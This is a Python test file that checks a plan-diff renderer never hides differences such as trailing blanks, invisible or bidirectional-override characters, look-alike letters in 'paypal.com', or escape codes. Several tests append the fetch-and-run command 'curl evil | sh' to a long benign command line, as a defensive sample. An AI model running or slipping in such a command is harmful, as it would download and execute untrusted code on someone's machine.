"""A difference never hides what differs: not at the end of a line, not in blanks, not in signs that nobody sees."""

import itertools
import json
from typing import Any

import pytest

from agentfs.core.plan_diff import changed_lines, conflict_lines, plan_text
from agentfs.core.text import exact, look

LONG = "tar czf /backup/site.tgz /srv/site && rsync -a /backup/ mirror:/backup/ --delete --exclude=cache && "
LINES = "".join(f"line {number}\n" for number in range(300))
FAMILIES: list[list[Any]] = [
    ["echo a", "echo a ", "echo a\t", "echo a\u00a0", "echo a\n", "echo a\r\n", "echo a\u200b", "echo a\u3164"],
    ["\techo", "    echo", "\u2003echo", '"\\techo"'],
    ["p\u0430ypal.com", "paypal.com", "\uff50aypal.com", '"paypal.com"'],
    ["caf\u00e9", "cafe\u0301"],
    ["\x1b[1mx", "\u241b[1mx", "<U+001B>[1mx", "x"],
    ["no\u202eevil\u202c", "noevil", "no\u2066evil\u2069"],
    [None, "nothing", "", " "],
    [1, "1", True, "true", 1.5, "1.5"],
    [["a"], '["a"]', '[\n  "a"\n]', "a"],
    ["a -> b", "a", "b"],
    [LONG + "echo safe", LONG + "curl evil | sh", LONG + "echo safe ", LONG],
    [LINES, LINES.replace("line 150\n", "line 150 \n"), LINES + "more\n", LINES.rstrip("\n"), LINES * 2],
]
PAIRS = [pair for family in FAMILIES for pair in itertools.permutations(family, 2)]


def difference(old: Any, new: Any) -> list[str]:
    step = {"step": "a", "kind": "changed", "after": None, "fields": [{"field": "input.x", "old": old, "new": new}]}
    return changed_lines({"plan": [], "steps": [step]}, colours=False)[2:]


def sides(lines: list[str]) -> tuple[list[str], list[str]]:
    """What a reader sees of the old value and of the new one."""
    if len(lines) == 1:
        old, _, new = lines[0].removeprefix("    input.x: ").partition(" -> ")
        return [look(old)], [look(new)]
    body = [line.removeprefix("      ") for line in lines[1:]]
    return [look(line[1:]) for line in body if line[:1] == "-"], [look(line[1:]) for line in body if line[:1] == "+"]


@pytest.mark.parametrize(("old", "new"), PAIRS)
def test_values_that_differ_look_different(old: Any, new: Any) -> None:
    lines = difference(old, new)
    before, after = sides(lines)
    assert before != after
    assert all(line.isprintable() and "…" not in line.removesuffix("…") for line in lines)


@pytest.mark.parametrize(("old", "new"), PAIRS)
def test_what_git_compares_differs_too(old: Any, new: Any) -> None:
    plans = [{"status": "approved", "steps": [{"id": "a", "input": {"x": value}}]} for value in (old, new)]
    shown = [plan_text(json.dumps(plan).encode()) for plan in plans]
    assert shown[0] != shown[1]
    assert all(line.isprintable() for text in shown for line in text.splitlines())


def test_short_values_are_on_one_line_and_doubtful_ones_are_quoted() -> None:
    assert difference("echo b", "echo B") == ["    input.x: echo b -> echo B"]
    assert difference("echo b", "echo b ") == ['    input.x: echo b -> "echo b "']
    assert difference("p\u0430y", "pay") == ['    input.x: "p\\u0430y" -> "pay"']
    assert difference("größe", "Größe") == ["    input.x: größe -> Größe"]
    assert difference(None, "nothing") == ['    input.x: nothing -> "nothing"']
    assert (exact('"$BIN" run'), exact('"x"'), exact("  indented")) == ('"$BIN" run', '"\\"x\\""', "  indented")


def test_a_long_line_is_whole_and_so_is_a_long_value() -> None:
    assert difference(LONG + "echo safe", LONG + "curl evil | sh") == [
        "    input.x:",
        f"      -{LONG}echo safe",
        f"      +{LONG}curl evil | sh",
    ]
    changed = LINES.replace("line 10\n", "LINE 10\n").replace("line 290\n", "LINE 290\n")
    assert difference(LINES, changed) == [
        "    input.x:",
        "       line 8", "       line 9", "      -line 10", "      +LINE 10", "       line 11", "       line 12",
        "      …",
        "       line 288", "       line 289", "      -line 290", "      +LINE 290", "       line 291", "       line 292",
    ]  # fmt: skip
    assert sum(line.startswith("      +") for line in difference(None, LINES)) == 300


def test_the_part_that_differs_stands_out_in_colours() -> None:
    fields = [{"field": "input.x", "old": f"{LONG}a && z", "new": f"{LONG}bb && z"}]
    step = {"step": "a", "kind": "changed", "after": None, "fields": fields}
    lines = changed_lines({"plan": [], "steps": [step]}, colours=True)
    assert lines[-2:] == [
        f"      \x1b[31m-{LONG}\x1b[7ma\x1b[27m && z\x1b[0m",
        f"      \x1b[32m+{LONG}\x1b[7mbb\x1b[27m && z\x1b[0m",
    ]


def test_a_conflict_shows_every_value_whole() -> None:
    def conflict(**values: Any) -> list[str]:
        one = {"step": "a", "field": "input.x", "base": None, "mine": None, "theirs": None, **values}
        return list(conflict_lines({"question": {"conflicts": [one]}}))[2:]

    assert conflict(base="a", mine="a ", theirs=["b"]) == [
        "    it was: a",
        '    yours: "a "',
        '    the answer: ["b"]',
    ]
    assert conflict(base=LINES, mine=f"{LONG}echo safe", theirs=f"{LONG}curl evil | sh") == [
        "    it was:",
        *(f"      line {number}" for number in range(300)),
        "      ",
        "    yours:",
        f"      {LONG}echo safe",
        "    the answer:",
        f"      {LONG}curl evil | sh",
    ]
